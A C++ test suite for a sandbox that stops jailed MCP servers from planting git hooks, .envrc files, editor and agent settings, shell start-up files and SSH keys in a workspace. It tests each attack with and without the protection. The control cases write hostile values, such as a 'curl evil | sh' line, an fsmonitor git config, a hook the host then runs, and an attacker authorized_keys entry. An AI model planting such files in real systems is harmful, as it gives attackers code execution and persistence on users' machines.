// Protected names in write paths (mcpjail/protect.hpp): a server that writes
// the workspace cannot plant what a host tool runs later (git hooks and
// config, .envrc, editor and agent settings), present or absent, at the top
// level or in a nested repository; the host tree is unchanged afterwards; and
// the server still writes, creates directories and renames files everywhere
// else. Each negative is shown to succeed with the names dropped
// (unprotect = ["*"]), root and rootless.
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

#include "harness.hpp"
#include "../support/files.hpp"
#include "../support/skip.hpp"

using namespace it;
namespace fs = std::filesystem;

namespace {

// Every name below `root` with its type, mode, owner, size, content and link
// target: equal before and after means nothing was created, changed or left.
std::string tree_state(const std::string& root) {
  std::vector<std::string> lines;
  std::function<void(const std::string&, const std::string&)> walk = [&](const std::string& dir, const std::string& rel) {
    for (const auto& e : fs::directory_iterator(dir)) {
      const std::string p = e.path().string();
      const std::string r = rel + "/" + e.path().filename().string();
      struct stat st {};
      REQUIRE(::lstat(p.c_str(), &st) == 0);
      std::ostringstream o;
      o << r << " " << std::oct << st.st_mode << std::dec << " " << st.st_uid << ":" << st.st_gid;
      if (S_ISREG(st.st_mode)) o << " " << std::hash<std::string>{}(support::slurp(p)) << " " << st.st_size;
      if (S_ISLNK(st.st_mode)) o << " -> " << fs::read_symlink(p).string();
      lines.push_back(o.str());
      if (S_ISDIR(st.st_mode)) walk(p, r);
    }
  };
  walk(root, "");
  std::sort(lines.begin(), lines.end());
  std::string out;
  for (const auto& l : lines) out += l + "\n";
  return out;
}

void git_init(const std::string& dir) {
  const auto r = support::run({kGit, "init", "-q", dir}, {"PATH=/usr/bin:/bin", "HOME=/nonexistent"});
  REQUIRE(r.status == 0);
}

// A workspace that is a repository with a nested one and some protected
// names present; the others absent.
struct ProtectWorld {
  Mode mode;
  TempDir ws, prof;
  std::string ws_path, audit;
  explicit ProtectWorld(Mode m) : mode(m), ws(m), prof(m) {
    ws_path = ws.path();
    git_init(ws_path);
    git_init(ws_path + "/vendor/lib");
    fs::create_directories(ws_path + "/.git/hooks");
    fs::create_directories(ws_path + "/vendor/lib/.git/hooks");
    std::ofstream(ws_path + "/.envrc") << "echo original\n";
    fs::create_directories(ws_path + "/.vscode");
    std::ofstream(ws_path + "/.vscode/settings.json") << "{}\n";
    std::ofstream(ws_path + "/README.md") << "hello\n";
    fs::create_directories(ws_path + "/src");
    std::ofstream(ws_path + "/src/main.c") << "int main(void){return 0;}\n";
    chown_tree(ws_path, Harness::get().uid(m), Harness::get().gid(m));
    audit = prof.path() + "/audit.jsonl";
  }
  std::string profile(const std::string& extra = "") const {
    return prof.file("p" + std::to_string(std::hash<std::string>{}(extra)) + ".toml", R"(version = 1
name = "protect-it"
extends = "base"
[filesystem]
write = ["${WORKSPACE}"]
)" + extra);
  }
  Result steps(const std::vector<std::string>& steps, const std::string& extra = "") const {
    std::vector<std::string> a = {"run", profile(extra), "--var", "WORKSPACE=" + ws_path, "--audit-log", audit,
                                  "--", Harness::get().probe(), "steps"};
    a.insert(a.end(), steps.begin(), steps.end());
    return run(mode, a);
  }
  std::string p(const std::string& rel) const { return ws_path + "/" + rel; }
  // A home directory to the launch (it holds .bashrc), with these
  // directories in it, all the jail's user's.
  void as_home(const std::vector<std::string>& dirs = {}) const {
    std::ofstream(p(".bashrc")) << "# rc\n";
    for (const auto& d : dirs) fs::create_directories(p(d));
    chown_tree(ws_path, Harness::get().uid(mode), Harness::get().gid(mode));
  }
  std::vector<nlohmann::json> events(const std::string& type) const {
    std::vector<nlohmann::json> out;
    for (const auto& l : support::lines(support::slurp(audit))) {
      if (l.empty()) continue;
      auto j = nlohmann::json::parse(l);
      if (j.value("event", "") == type) out.push_back(j);
    }
    return out;
  }
  bool denied(const std::string& path) const {
    for (const auto& e : events("fs_denied"))
      if (e.value("path", "") == path && e.value("reason", "") == "protected name") return true;
    return false;
  }
};

// Each act, once as the negative (it must fail) and once as the same act
// expected to work when the names are dropped.
struct Act {
  std::vector<std::string> fails, works;
  std::string audited;  // a path whose fs_denied event the negative leaves
};

std::vector<Act> acts(const ProtectWorld& w) {
  return {
      // present, top level
      {{"append-fails", w.p(".git/config")}, {"write", w.p(".git/config"), "[core]\n\tfsmonitor = touch\n"},
       w.p(".git/config")},
      {{"create-fails", w.p(".git/hooks/pre-commit")}, {"write-mode", w.p(".git/hooks/pre-commit"), "#!/bin/sh\n", "755"},
       w.p(".git/hooks/pre-commit")},
      {{"write", w.p(".git/config.lock"), "[core]\n", "rename-fails", w.p(".git/config.lock"), w.p(".git/config")},
       {"write", w.p(".git/config.lock"), "[core]\n", "rename", w.p(".git/config.lock"), w.p(".git/config")},
       w.p(".git/config")},
      {{"append-fails", w.p(".envrc")}, {"write", w.p(".envrc"), "curl evil | sh\n"}, w.p(".envrc")},
      {{"unlink-fails", w.p(".envrc")}, {"rename", w.p(".envrc"), w.p("envrc.old")}, ""},
      {{"create-fails", w.p(".vscode/tasks.json")}, {"write", w.p(".vscode/tasks.json"), "{}"}, w.p(".vscode/tasks.json")},
      // the directory above a protected name cannot be swapped
      {{"rename-fails", w.p(".git"), w.p("git.old")}, {"rename", w.p(".git"), w.p("git.old")}, ""},
      // present, nested repository
      {{"create-fails", w.p("vendor/lib/.git/hooks/post-checkout")},
       {"write", w.p("vendor/lib/.git/hooks/post-checkout"), "#!/bin/sh\n"}, w.p("vendor/lib/.git/hooks/post-checkout")},
      {{"append-fails", w.p("vendor/lib/.git/config")}, {"write", w.p("vendor/lib/.git/config"), "[core]\n"},
       w.p("vendor/lib/.git/config")},
      // absent, top level: files, directories, links, renames
      {{"create-fails", w.p(".mcp.json")}, {"write", w.p(".mcp.json"), "{}"}, w.p(".mcp.json")},
      {{"mkdir-fails", w.p(".claude")}, {"mkdir", w.p(".claude")}, w.p(".claude")},
      {{"mkdir-fails", w.p(".idea")}, {"mkdir", w.p(".idea")}, w.p(".idea")},
      {{"symlink-fails", "/tmp/x", w.p(".cursor")}, {"symlink", "/tmp/x", w.p(".cursor")}, w.p(".cursor")},
      {{"write", w.p("gm"), "x", "rename-fails", w.p("gm"), w.p(".gitmodules")},
       {"write", w.p("gm"), "x", "rename", w.p("gm"), w.p(".gitmodules")}, w.p(".gitmodules")},
      {{"link-fails", w.p("README.md"), w.p(".gitmodules")}, {"write", w.p(".gitmodules"), "x"}, w.p(".gitmodules")},
      // where git would take config and hooks from instead, top level and nested
      {{"create-fails", w.p(".git/commondir")}, {"write", w.p(".git/commondir"), "../evil\n"}, w.p(".git/commondir")},
      {{"create-fails", w.p("vendor/lib/.git/commondir")}, {"write", w.p("vendor/lib/.git/commondir"), "../evil\n"},
       w.p("vendor/lib/.git/commondir")},
      {{"mkdir-fails", w.p(".git/worktrees")}, {"mkdir", w.p(".git/worktrees")}, w.p(".git/worktrees")},
      // a new repository anywhere below the write path ("**/.git"): a directory or a link file
      {{"mkdir-fails", w.p("src/.git")}, {"mkdir", w.p("src/.git")}, w.p("src/.git")},
      {{"mkdir", w.p("evil"), "create-fails", w.p("evil/.git")}, {"mkdir", w.p("evil"), "write", w.p("evil/.git"), "gitdir: x\n"},
       w.p("evil/.git")},
      {{"mkdir", w.p("repo.new"), "rename-fails", w.p("repo.new"), w.p("src/.git")},
       {"mkdir", w.p("repo.new"), "rename", w.p("repo.new"), w.p("src/.git")}, w.p("src/.git")},
      // the write path itself as a bare repository
      {{"create-fails", w.p("HEAD")}, {"write", w.p("HEAD"), "ref: refs/heads/main\n"}, w.p("HEAD")},
      // through a dangling symbolic link: open(O_CREAT) would create its target
      {{"symlink", ".mcp.json", w.p("lnk"), "create-fails", w.p("lnk")},
       {"symlink", ".mcp.json", w.p("lnk"), "write", w.p("lnk"), "x", "content-is", w.p(".mcp.json"), "x"}, w.p("lnk")},
      {{"symlink", ".mcp.json", w.p("lnk2"), "symlink", "lnk2", w.p("lnk3"), "create-fails", w.p("lnk3")},
       {"symlink", ".mcp.json", w.p("lnk2"), "symlink", "lnk2", w.p("lnk3"), "write", w.p("lnk3"), "x"}, w.p("lnk3")},
      // through another name for the same directory
      {{"symlink", ".", w.p("self"), "mkdir-fails", w.p("self/.claude")},
       {"symlink", ".", w.p("self"), "mkdir", w.p("self/.claude")}, ""},
  };
}

}  // namespace

TEST_CASE("protect: present and absent names cannot be written or created, and the host tree is unchanged",
          "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      const std::size_t n = acts(ProtectWorld(m)).size();
      for (std::size_t k = 0; k < n; ++k) {
        ProtectWorld w(m);
        const Act act = acts(w)[k];
        const std::string before = tree_state(w.ws_path);
        const Result r = w.steps(act.fails);
        INFO(mode_name(m) << ": " << act.fails[0] << " " << act.fails[1] << "\n" << r.err);
        CHECK(r.status == 0);
        if (!act.audited.empty()) CHECK(w.denied(act.audited));
        // What a negative creates on purpose beside the planted name (a
        // lock file, a link) is removed again so the tree can be compared whole.
        for (std::size_t i = 0; i + 2 < act.fails.size(); ++i) {
          if (act.fails[i] == "write") fs::remove(act.fails[i + 1]);
          if (act.fails[i] == "symlink") fs::remove(act.fails[i + 2]);
          if (act.fails[i] == "mkdir") fs::remove_all(act.fails[i + 1]);
        }
        CHECK(tree_state(w.ws_path) == before);

        // Without the layer the same act plants the name.
        ProtectWorld c(m);
        const Result ok = c.steps(acts(c)[k].works, "unprotect = [\"*\"]\n");
        INFO("control, names dropped: " << ok.err);
        CHECK(ok.status == 0);
      }
    }
  }
}

TEST_CASE("protect: two threads swapping the path under a creating call never plant a name", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      // The path is copied once by the supervisor and created by the jail's
      // create helper relative to the directory it checked: what the second
      // thread writes afterwards changes nothing. GOOD and BAD have the same
      // length; torn mixtures of the two are harmless names.
      ProtectWorld w(m);
      const Result r = w.steps({"race-create", w.p("plain.txt"), w.p(".mcp.json"), "3"});
      INFO(r.err);
      CHECK(r.status == 0);  // GOOD was made (the loop ran), BAD never
      CHECK(r.err.find("race-create: ") != std::string::npos);
      CHECK_FALSE(fs::exists(w.p(".mcp.json")));
      CHECK(w.denied(w.p(".mcp.json")));
      CHECK(w.events("protect_created").empty());

      // Control: with the names dropped the same program makes BAD at once.
      ProtectWorld c(m);
      const Result ok = c.steps({"race-create", c.p("plain.txt"), c.p(".mcp.json"), "3"}, "unprotect = [\"*\"]\n");
      INFO("control: " << ok.err);
      CHECK(ok.status != 0);
      CHECK(ok.err.find("race-create: made " + c.p(".mcp.json")) != std::string::npos);
    }
  }
}

TEST_CASE("protect: creating calls performed for the server answer as the kernel's own", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      // The same battery (umask, O_EXCL, trailing '/', dirfd and "..", bad
      // descriptors, /dev/fd/N/name, links dangling or not, O_NOFOLLOW, hard
      // links, renameat2 flags, FIFOs, O_TMPFILE linked through /proc/self/fd,
      // a descriptor reopened by name) with the create helper (names
      // protected) and without it (names dropped: the kernel alone).
      for (const std::string extra : {"", "unprotect = [\"*\"]\n"}) {
        ProtectWorld w(m);
        fs::create_directories(w.p("battery"));
        chown_tree(w.p("battery"), Harness::get().uid(m), Harness::get().gid(m));
        const Result r = w.steps({"create-semantics", w.p("battery")}, extra);
        INFO((extra.empty() ? "with the helper: " : "kernel alone: ") << r.err);
        CHECK(r.status == 0);
        CHECK(fs::exists(w.p("battery/made-by-link")));
        CHECK(fs::exists(w.p("battery/sub/deeper")));
        CHECK(fs::exists(w.p("battery/tmpfile")));
      }
    }
  }
}

TEST_CASE("protect: the server cannot kill the create helper", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      // The helper has a Landlock domain of its own (signals are scoped) and
      // is not dumpable. After kill(-1, SIGKILL) creating calls still work
      // and protected names are still refused.
      ProtectWorld w(m);
      const Result r = w.steps({"kill-others", "write", w.p("after.txt"), "x", "mkdir-fails", w.p(".claude")});
      INFO(r.err);
      CHECK(r.status == 0);
      CHECK(support::slurp(w.p("after.txt")) == "x");
      CHECK_FALSE(fs::exists(w.p(".claude")));
    }
  }
}

TEST_CASE("protect: the server still writes, makes directories and renames everywhere else", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      ProtectWorld w(m);
      const Result r = w.steps({
          "write", w.p("new.txt"), "a",                     // a new file at the top level
          "write", w.p("tmp.123"), "b", "rename", w.p("tmp.123"), w.p("README.md"),  // temp then rename over the target
          "mkdir", w.p("newdir"), "write", w.p("newdir/f"), "c", "rename", w.p("newdir/f"), w.p("newdir/g"),
          "mkdir", w.p("src/deep"), "write", w.p("src/deep/x"), "d",
          "write", w.p(".vscode.bak"), "e",                 // a name that only starts like a protected one
          "write", w.p(".git/COMMIT_EDITMSG"), "f",         // the rest of .git stays writable
          "write", w.p("vendor/lib/file"), "g",
          "content-is", w.p("README.md"), "b",
      });
      INFO(r.err);
      CHECK(r.status == 0);
      CHECK(support::slurp(w.p("newdir/g")) == "c");
      CHECK(support::slurp(w.p("src/deep/x")) == "d");
      CHECK(w.events("fs_denied").empty());
      CHECK(w.events("protect_created").empty());
    }
  }
}

TEST_CASE("protect: a missing name that appears during the launch is reported at its end", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      ProtectWorld w(m);
      Running r(m, {"run", w.profile(), "--var", "WORKSPACE=" + w.ws_path, "--audit-log", w.audit, "--",
                    Harness::get().probe(), "sleep", "2"});
      const auto ready = r.read_line(std::chrono::seconds(30));
      REQUIRE(ready);
      // What a server that wins the race, or someone on the host, leaves.
      std::ofstream(w.p(".mcp.json")) << "{}";
      const Result res = r.wait(std::chrono::seconds(30));
      INFO(res.err);
      CHECK(res.status == 0);
      const auto ev = w.events("protect_created");
      REQUIRE(ev.size() == 1);
      CHECK(ev[0].value("path", "") == w.p(".mcp.json"));
      CHECK(res.err.find("the protected name " + w.p(".mcp.json") + " did not exist at launch") != std::string::npos);
      CHECK(fs::exists(w.p(".mcp.json")));  // reported, never removed
    }
  }
}

TEST_CASE("protect: git in the jail finds the repository, and git on the host runs nothing planted", "[protect]") {
  if (::access(kGit, X_OK) != 0) SKIP_TEST("git is not installed");
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      ProtectWorld w(m);
      const std::string marker = w.prof.path() + "/ran";
      // Planting attempts, each expected to fail.
      const Result r = w.steps({
          "append-fails", w.p(".git/config"),
          "create-fails", w.p(".git/hooks/pre-commit"),
          "create-fails", w.p(".git/hooks/fsmonitor"),
          "create-fails", w.p("vendor/lib/.git/hooks/pre-commit"),
      });
      INFO(r.err);
      REQUIRE(r.status == 0);
      // git inside the jail, from a subdirectory, finds the workspace's repository.
      const Result in = run(m, {"run", w.profile(), "--var", "WORKSPACE=" + w.ws_path, "--audit-log", "none",
                                "--env", "HOME=/tmp", "--", kGit, "-C", w.p("src"), "rev-parse", "--show-toplevel"});
      INFO(in.err);
      CHECK(in.status == 0);
      CHECK(in.out == w.ws_path + "\n");
      // On the host, git status and commit run no hook and no fsmonitor.
      const std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=/nonexistent", "GIT_CONFIG_NOSYSTEM=1"};
      const std::vector<std::string> git = {kGit, "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t",
                                            "-C", w.ws_path};
      auto with = [&](std::vector<std::string> a, const std::vector<std::string>& more) {
        a.insert(a.end(), more.begin(), more.end());
        return a;
      };
      CHECK(support::run(with(git, {"status"}), env).status == 0);
      CHECK(support::run(with(git, {"add", "README.md"}), env).status == 0);
      CHECK(support::run(with(git, {"commit", "-q", "-m", "x"}), env).status == 0);
      CHECK(!fs::exists(marker));

      // The control: with the names dropped, the same server plants a hook
      // that the host's next commit runs.
      ProtectWorld c(m);
      const std::string cmarker = c.prof.path() + "/ran";
      const Result planted =
          c.steps({"write-mode", c.p(".git/hooks/pre-commit"), "#!/bin/sh\ntouch " + cmarker + "\n", "755"},
                  "unprotect = [\"*\"]\n");
      INFO(planted.err);
      REQUIRE(planted.status == 0);
      const std::vector<std::string> cgit = {kGit, "-c", "safe.directory=*", "-c", "user.name=t", "-c",
                                             "user.email=t@t", "-C", c.ws_path};
      CHECK(support::run(with(cgit, {"add", "README.md"}), env).status == 0);
      CHECK(support::run(with(cgit, {"commit", "-q", "-m", "x"}), env).status == 0);
      CHECK(fs::exists(cmarker));
    }
  }
}

TEST_CASE("protect: a workspace inside a repository gets no .git, and git on the host still finds the parent", "[protect]") {
  if (::access(kGit, X_OK) != 0) SKIP_TEST("git is not installed");
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      TempDir parent(m), prof(m);
      git_init(parent.path());
      const std::string ws = parent.dir("pkg");
      std::ofstream(ws + "/index.js") << "1\n";
      chown_tree(parent.path(), Harness::get().uid(m), Harness::get().gid(m));
      const std::string before = tree_state(parent.path());
      const std::string profile = prof.file("p.toml", "version = 1\nextends = \"base\"\n[filesystem]\nwrite = [\"${WORKSPACE}\"]\n");
      const std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=/nonexistent"};
      const std::vector<std::string> toplevel = {kGit, "-c", "safe.directory=*", "-C", ws, "rev-parse", "--show-toplevel"};
      REQUIRE(support::run(toplevel, env).out == parent.path() + "\n");
      const Result r = run(m, {"run", profile, "--var", "WORKSPACE=" + ws, "--audit-log", "none", "--",
                               Harness::get().probe(), "steps", "mkdir-fails", ws + "/.git", "create-fails",
                               ws + "/.git/config", "write", ws + "/new.js", "2"});
      INFO(r.err);
      CHECK(r.status == 0);
      fs::remove(ws + "/new.js");
      CHECK(tree_state(parent.path()) == before);  // nothing created for the refusal
      CHECK(support::run(toplevel, env).out == parent.path() + "\n");
    }
  }
}

TEST_CASE("protect: a home directory's start-up files", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      ProtectWorld w(m);  // holds .bashrc below: looks like a home directory
      w.as_home({".config"});
      const std::string before = tree_state(w.ws_path);
      const Result r = w.steps({"append-fails", w.p(".bashrc"), "create-fails", w.p(".profile"),
                                "mkdir-fails", w.p(".config/autostart"), "mkdir-fails", w.p(".local"),
                                "write", w.p(".config/app.conf"), "ok"});
      INFO(r.err);
      CHECK(r.status == 0);
      CHECK(w.denied(w.p(".profile")));
      CHECK(w.denied(w.p(".bashrc")));
      fs::remove(w.p(".config/app.conf"));
      CHECK(tree_state(w.ws_path) == before);
      // The control.
      ProtectWorld c(m);
      c.as_home();
      const Result ok = c.steps({"write", c.p(".bashrc"), "x", "write", c.p(".profile"), "y", "mkdir", c.p(".local")},
                                "unprotect = [\"*\"]\n");
      INFO(ok.err);
      CHECK(ok.status == 0);
    }
  }
}

TEST_CASE("protect: a missing name cannot be planted by swapping the directory it would be created in", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      // A home directory (it holds .bashrc) whose .ssh and .config exist
      // without the protected names below them.
      ProtectWorld w(m);
      w.as_home({".ssh", ".config"});
      const std::string before = tree_state(w.ws_path);
      // A copy holding the name is built beside the directory; the directory
      // cannot be renamed away, the copy not renamed or swapped into its place.
      const std::vector<std::string> build = {"mkdir", w.p("newssh"), "write", w.p("newssh/authorized_keys"), "ssh-ed25519 AAAA evil\n",
                                              "mkdir", w.p("newcfg"), "mkdir", w.p("newcfg/git"),
                                              "write", w.p("newcfg/git/config"), "[core]\n\tfsmonitor = touch\n"};
      std::vector<std::string> attack = build;
      const std::vector<std::string> swaps = {"rename-fails", w.p(".ssh"), w.p("ssh.old"), "rename-fails", w.p("newssh"), w.p(".ssh"),
                                              "exchange-fails", w.p("newcfg"), w.p(".config"),
                                              "create-fails", w.p(".ssh/authorized_keys"), "create-fails", w.p(".ssh/rc"),
                                              "create-fails", w.p(".npmrc"), "mkdir-fails", w.p(".config/mcp-jail")};
      attack.insert(attack.end(), swaps.begin(), swaps.end());
      const Result r = w.steps(attack);
      INFO(r.err);
      CHECK(r.status == 0);
      CHECK(w.denied(w.p(".ssh/authorized_keys")));
      CHECK_FALSE(fs::exists(w.p(".ssh/authorized_keys")));
      CHECK_FALSE(fs::exists(w.p(".config/git/config")));
      fs::remove_all(w.p("newssh"));
      fs::remove_all(w.p("newcfg"));
      CHECK(tree_state(w.ws_path) == before);
      // The control: with the names dropped the same swaps plant them.
      ProtectWorld c(m);
      c.as_home({".ssh", ".config"});
      std::vector<std::string> works = {"mkdir", c.p("newssh"), "write", c.p("newssh/authorized_keys"), "x",
                                        "mkdir", c.p("newcfg"), "mkdir", c.p("newcfg/git"), "write", c.p("newcfg/git/config"), "y",
                                        "rename", c.p(".ssh"), c.p("ssh.old"), "rename", c.p("newssh"), c.p(".ssh"),
                                        "exchange", c.p("newcfg"), c.p(".config")};
      const Result ok = c.steps(works, "unprotect = [\"*\"]\n");
      INFO(ok.err);
      CHECK(ok.status == 0);
      CHECK(fs::exists(c.p(".ssh/authorized_keys")));
      CHECK(fs::exists(c.p(".config/git/config")));
    }
  }
}

TEST_CASE("protect: mcp-jail's state in a home write path is read-only, the profile's own state directory writable", "[protect]") {
  for (Mode m : modes()) {
    SECTION(mode_name(m)) {
      // The state home inside a write path that is a home directory: another
      // profile's state (an npm cache a later launch runs) must not be reachable.
      ProtectWorld w(m);
      w.as_home({".local/state/mcp-jail/other"});
      // The state home is the launching user's (root for a root launch).
      if (m == Mode::Root) chown_tree(w.p(".local/state"), 0, 0);
      RunOptions o;
      o.env = {"XDG_STATE_HOME=" + w.p(".local/state")};
      const std::string mine = w.p(".local/state/mcp-jail/protect-it/data");
      const std::string profile = w.prof.file("state.toml", R"(version = 1
name = "protect-it"
extends = "base"
[filesystem]
write = ["${WORKSPACE}", "${PROFILE_STATE}/data"]
)");
      const Result r = run(m, {"run", profile, "--var",
                               "WORKSPACE=" + w.ws_path, "--audit-log", w.audit, "--", Harness::get().probe(), "steps",
                               "write", mine + "/graph.jsonl", "x",  // the positive control
                               "create-fails", w.p(".local/state/mcp-jail/other/cache"),
                               "create-fails", w.p(".local/state/mcp-jail/new")},
                           o);
      INFO(r.err);
      CHECK(r.status == 0);
      CHECK(support::slurp(mine + "/graph.jsonl") == "x");
      CHECK_FALSE(fs::exists(w.p(".local/state/mcp-jail/other/cache")));
      CHECK_FALSE(fs::exists(w.p(".local/state/mcp-jail/new")));
    }
  }
}

TEST_CASE("protect: check lists each protected name and how it is enforced", "[protect]") {
  ProtectWorld w(modes().front());
  const Result r = run(w.mode, {"check", w.profile(), "--var", "WORKSPACE=" + w.ws_path});
  INFO(r.err);
  REQUIRE(r.status == 0);
  CHECK(r.out.find("read-only " + w.p(".git/hooks") + "\n") != std::string::npos);
  CHECK(r.out.find("read-only " + w.p("vendor/lib/.git/config") + "\n") != std::string::npos);
  CHECK(r.out.find("refused   " + w.p(".mcp.json") + "\n") != std::string::npos);
  CHECK(r.out.find("1 found") != std::string::npos);
  const Result dropped = run(w.mode, {"check", w.profile("unprotect = [\".mcp.json\"]\n"), "--var",
                                      "WORKSPACE=" + w.ws_path});
  CHECK(dropped.out.find(w.p(".mcp.json")) == std::string::npos);
  CHECK(dropped.out.find("read-only " + w.p(".envrc")) != std::string::npos);
}
